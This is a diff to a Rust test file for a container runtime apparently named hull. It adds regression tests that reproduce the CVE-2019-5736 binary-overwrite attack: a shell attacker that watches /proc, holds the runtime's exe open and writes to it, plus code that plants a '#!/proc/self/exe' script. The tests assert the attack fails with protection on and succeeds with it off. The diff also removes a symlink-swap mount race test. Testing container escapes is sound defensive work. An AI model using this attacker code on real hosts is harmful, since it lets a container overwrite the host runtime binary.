@@ -10,13 +10,15 @@ use std::fs;
 use std::time::Duration;
 
 /// The attacker, PID 1 of its own pid namespace: once /out/scan exists it
-/// watches /proc for a process running the copy (or a memfd named hull),
+/// watches the process directories /out/scan lists (every one in /proc
+/// when it is empty) for a process running the copy (or a memfd named hull),
 /// keeps its exe open as fd 3, reports the link in /out/opened, and after
 /// /out/go tries `>> /proc/self/fd/3` (retrying while the file is busy).
 const ATTACKER: &str = r#"
 while [ ! -e /out/scan ]; do usleep 10000; done
 while :; do
-  for d in /proc/[0-9]*; do
+  dirs=$(cat /out/scan); [ -n "$dirs" ] || dirs=$(echo /proc/[0-9]*)
+  for d in $dirs; do
     case "$(readlink $d/exe 2>/dev/null)" in
       *hull-victim*|/memfd:hull*)
         if (exec 3<$d/exe) 2>/dev/null; then exec 3<$d/exe; break 2; fi;;
@@ -308,68 +310,228 @@ fn exe_protection_keeps_a_piped_process_json() {
     );
 }
 
-/// CVE-2021-30465: a container swaps a path of a shared volume between a
-/// directory and a symlink to a host directory while another container is
-/// created with a mount whose destination runs through that path. Every
-/// destination must resolve inside the new container's rootfs at the
-/// moment of the mount (openat2 RESOLVE_IN_ROOT, mount on the fd): nothing
-/// may be created or mounted in the host directory, whichever state the
-/// race catches.
-#[test]
-fn mount_destination_symlink_swap_race_stays_in_rootfs() {
-    let volume = TempDir::new("race-vol");
-    let host_target = TempDir::new("race-target");
-    let rt = Runtime::new();
-    // The attacker: swaps /vol/d between a directory and a symlink to the
-    // host directory as fast as it can.
-    let mut attacker = Bundle::new(&[]);
-    attacker.bind(volume.path(), "/vol", &[]);
-    attacker.set_args(&[
-        "sh",
-        "-c",
-        &format!(
-            "while :; do rm -rf /vol/d; mkdir /vol/d; rm -rf /vol/d; ln -s {} /vol/d; done",
-            host_target.path().display()
-        ),
-    ]);
-    let attacker_id = unique_id("race-attacker");
-    rt.create_start(&attacker, &attacker_id);
-    // The victim: its tmpfs destination runs through the swapped path.
-    let mut victim = Bundle::new(&[
-        "sh",
-        "-c",
-        "grep -c ' /vol/d/x \\| /x ' /proc/self/mountinfo || true",
-    ]);
-    victim.bind(volume.path(), "/vol", &[]);
-    victim.add_mount(
-        json!({"destination": "/vol/d/x", "type": "tmpfs", "source": "tmpfs",
-        "options": ["size=64k"]}),
-    );
-    let (mut contained, mut refused) = (0, 0);
-    for round in 0..40 {
-        let id = unique_id("race-victim");
-        let o = rt.run_with(&victim, &id, &[]);
-        if o.success() {
-            contained += 1;
-        } else {
-            assert!(
-                o.stderr.starts_with("hull: ") || !runtime_is_hull(),
-                "round {round}: {o}"
-            );
-            if refused == 0 {
-                println!("first refusal: {}", o.stderr.trim());
-            }
-            refused += 1;
-        }
-        assert_host_dir_untouched(
-            host_target.path(),
-            &format!("round {round}: mount destination ({o})"),
-        );
+// ---------------------------------------------------------------------------
+// CVE-2019-5736, the original attack: a `#!/proc/self/exe` script. A hull
+// process that execs it starts hull's own binary again inside the
+// container, dumpable, and an ordinary container process (no
+// CAP_SYS_PTRACE, no user namespace) opens its /proc/PID/exe. The hull so
+// started refuses its arguments and writes its usage error to stderr: a
+// pipe that is full and never read holds it there, so the attacker cannot
+// miss it; closing the pipe lets it die, and the attacker then writes.
+// ---------------------------------------------------------------------------
+
+/// `#!/proc/self/exe` at /evil in the bundle's rootfs, which also gets the
+/// dynamic loader and libraries the runtime binary needs (as a glibc-based
+/// image has them): the kernel finds an ELF interpreter in the container's
+/// root, so without them a dynamically linked hull could not start there.
+fn plant_evil_script(b: &Bundle) {
+    use std::os::unix::fs::PermissionsExt;
+    // A static binary: ldd fails and there is nothing to copy.
+    let ldd = std::process::Command::new("ldd")
+        .arg(runtime_bin())
+        .output()
+        .map(|o| String::from_utf8_lossy(&o.stdout).to_string())
+        .unwrap_or_default();
+    for lib in ldd.split_whitespace().filter(|w| w.starts_with('/')) {
+        let dest = b.rootfs().join(lib.trim_start_matches('/'));
+        fs::create_dir_all(dest.parent().unwrap()).unwrap();
+        fs::copy(lib, &dest).unwrap_or_else(|e| panic!("copy {lib}: {e}"));
     }
-    println!("symlink-swap race: {contained} runs contained the mount, {refused} refused");
-    assert!(
-        contained > 0,
-        "no run succeeded: the race test exercised nothing"
+    let p = b.rootfs().join("evil");
+    fs::write(&p, "#!/proc/self/exe\n").unwrap();
+    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// A pipe whose buffer is full: (read end, write end, bytes in it). A
+/// process writing to the write end blocks until the read end is closed.
+fn full_pipe() -> (std::os::fd::OwnedFd, std::os::fd::OwnedFd, usize) {
+    use std::os::fd::AsRawFd;
+    let (r, w) = nix::unistd::pipe().unwrap();
+    // SAFETY: fcntl on descriptors the test owns.
+    unsafe {
+        libc::fcntl(w.as_raw_fd(), libc::F_SETPIPE_SZ, 4096);
+        libc::fcntl(w.as_raw_fd(), libc::F_SETFL, libc::O_NONBLOCK);
+    }
+    let mut n = 0;
+    while let Ok(k) = nix::unistd::write(&w, &[b'.'; 512]) {
+        n += k;
+    }
+    // SAFETY: as above: blocking again for whoever inherits it.
+    unsafe { libc::fcntl(w.as_raw_fd(), libc::F_SETFL, 0) };
+    (r, w, n)
+}
+
+/// Runs the runtime with stdout and stderr on `w`; returns its exit status.
+fn run_into_pipe(
+    rt: &Runtime,
+    args: &[&str],
+    w: &std::os::fd::OwnedFd,
+) -> std::process::ExitStatus {
+    let mut c = rt.command(args);
+    c.stdin(std::process::Stdio::null())
+        .stdout(w.try_clone().unwrap())
+        .stderr(w.try_clone().unwrap());
+    let mut child = c.spawn().unwrap();
+    let deadline = std::time::Instant::now() + Duration::from_secs(30);
+    loop {
+        if let Some(s) = child.try_wait().unwrap() {
+            return s;
+        }
+        assert!(std::time::Instant::now() < deadline, "{args:?} hung");
+        std::thread::sleep(Duration::from_millis(10));
+    }
+}
+
+#[derive(Clone, Copy, PartialEq)]
+enum Script {
+    /// `hull exec -d CTR /evil` into the attacker's own container.
+    Exec,
+    /// A container without a pid namespace whose entrypoint is /evil; the
+    /// attacker is another container without one.
+    Entrypoint,
+}
+
+struct ScriptAttack {
+    /// What the attacker opened ("" when it saw nothing to open).
+    opened: String,
+    /// The attacker's write ("" when it had nothing open).
+    result: String,
+    /// Bytes hull's image wrote into the full pipe (0: it never ran).
+    hull_wrote: usize,
+    binary_changed: bool,
+}
+
+fn script_attack(protection: &str, how: Script) -> ScriptAttack {
+    use std::io::Read;
+    let (copy_dir, copy) = victim_copy();
+    let before = sha256(&copy);
+    let mut rtc = Runtime::new();
+    rtc.bin = copy.clone();
+    rtc.env = vec![("HULL_EXE_PROTECTION".into(), protection.into())];
+    let mut a = Bundle::new(&["sh", "-c", ATTACKER]);
+    let out = a.out_dir();
+    let ida = unique_id("script-attacker");
+    let (r, w, filled) = full_pipe();
+    match how {
+        Script::Exec => {
+            plant_evil_script(&a);
+            rtc.create_start(&a, &ida);
+            fs::write(out.join("scan"), "").unwrap();
+            let st = run_into_pipe(&rtc, &["exec", "-d", &ida, "/evil"], &w);
+            assert!(st.success(), "exec -d /evil: {st}");
+        }
+        Script::Entrypoint => {
+            a.remove_namespace("pid");
+            rtc.create_start(&a, &ida);
+            let mut v = Bundle::new(&["/evil"]);
+            v.remove_namespace("pid");
+            plant_evil_script(&v);
+            let idv = unique_id("script-victim");
+            v.save();
+            rtc.track(&idv);
+            let bp = v.path().to_string_lossy().to_string();
+            let st = run_into_pipe(&rtc, &["create", "--bundle", &bp, &idv], &w);
+            assert!(st.success(), "create: {st}");
+            // The init keeps its pid through both execs: watch only it.
+            fs::write(out.join("scan"), format!("/proc/{}", rtc.pid(&idv))).unwrap();
+            rtc.start(&idv).ok();
+        }
+    }
+    drop(w);
+    let opened = wait_file(&out.join("opened"), Duration::from_secs(5)).unwrap_or_default();
+    // Drain the filler: a blocked writer (hull's image) goes on and writes.
+    let mut rf = fs::File::from(r);
+    let mut filler = vec![0u8; filled];
+    rf.read_exact(&mut filler).unwrap();
+    std::thread::sleep(Duration::from_millis(300));
+    // SAFETY: fcntl on a descriptor the test owns.
+    unsafe {
+        libc::fcntl(
+            std::os::fd::AsRawFd::as_raw_fd(&rf),
+            libc::F_SETFL,
+            libc::O_NONBLOCK,
+        )
+    };
+    let mut rest = Vec::new();
+    let _ = rf.read_to_end(&mut rest);
+    drop(rf);
+    let result = if opened.is_empty() {
+        String::new()
+    } else {
+        fs::write(out.join("go"), "").unwrap();
+        wait_file(&out.join("result"), Duration::from_secs(20))
+            .expect("attacker reported no result")
+            .trim()
+            .to_string()
+    };
+    rtc.bin = runtime_bin();
+    let after = sha256(&copy);
+    let hull_wrote = rest.len();
+    eprintln!(
+        "script attack ({protection}): handle {:?}, write {result:?}, hull's image wrote {hull_wrote} bytes, binary changed: {}",
+        opened.trim(),
+        before != after
     );
-    rt.kill(&attacker_id, "KILL").ok();
+    drop(copy_dir);
+    ScriptAttack {
+        opened: opened.trim().to_string(),
+        result,
+        hull_wrote,
+        binary_changed: before != after,
+    }
+}
+
+fn assert_script_blocked(a: &ScriptAttack) {
+    assert!(!a.binary_changed, "the host binary was changed");
+    assert!(
+        !a.opened.contains("hull-victim"),
+        "the attacker held the binary: {}",
+        a.opened
+    );
+    assert!(
+        a.opened.is_empty() || a.result.starts_with("failed"),
+        "write: {}",
+        a.result
+    );
+    assert_eq!(a.hull_wrote, 0, "hull's image ran in the container");
+}
+
+fn assert_script_overwrote(a: &ScriptAttack) {
+    assert!(a.hull_wrote > 0, "hull's image never ran in the container");
+    assert!(a.opened.contains("hull-victim"), "handle: {}", a.opened);
+    assert_eq!(a.result, "wrote", "the unprotected attack did not write");
+    assert!(a.binary_changed, "the write did not reach the binary");
+}
+
+#[test]
+fn exe_script_through_exec_is_blocked() {
+    if !hull_only("HULL_EXE_PROTECTION") {
+        return;
+    }
+    assert_script_blocked(&script_attack("auto", Script::Exec));
+}
+
+/// With protection off the same script reaches the binary: the test above can fail.
+#[test]
+fn exe_script_through_exec_succeeds_without_protection() {
+    if !hull_only("HULL_EXE_PROTECTION") {
+        return;
+    }
+    assert_script_overwrote(&script_attack("off", Script::Exec));
+}
+
+#[test]
+fn exe_script_as_entrypoint_without_pid_namespace_is_blocked() {
+    if !hull_only("HULL_EXE_PROTECTION") {
+        return;
+    }
+    assert_script_blocked(&script_attack("auto", Script::Entrypoint));
+}
+
+#[test]
+fn exe_script_as_entrypoint_succeeds_without_protection() {
+    if !hull_only("HULL_EXE_PROTECTION") {
+        return;
+    }
+    assert_script_overwrote(&script_attack("off", Script::Entrypoint));
 }
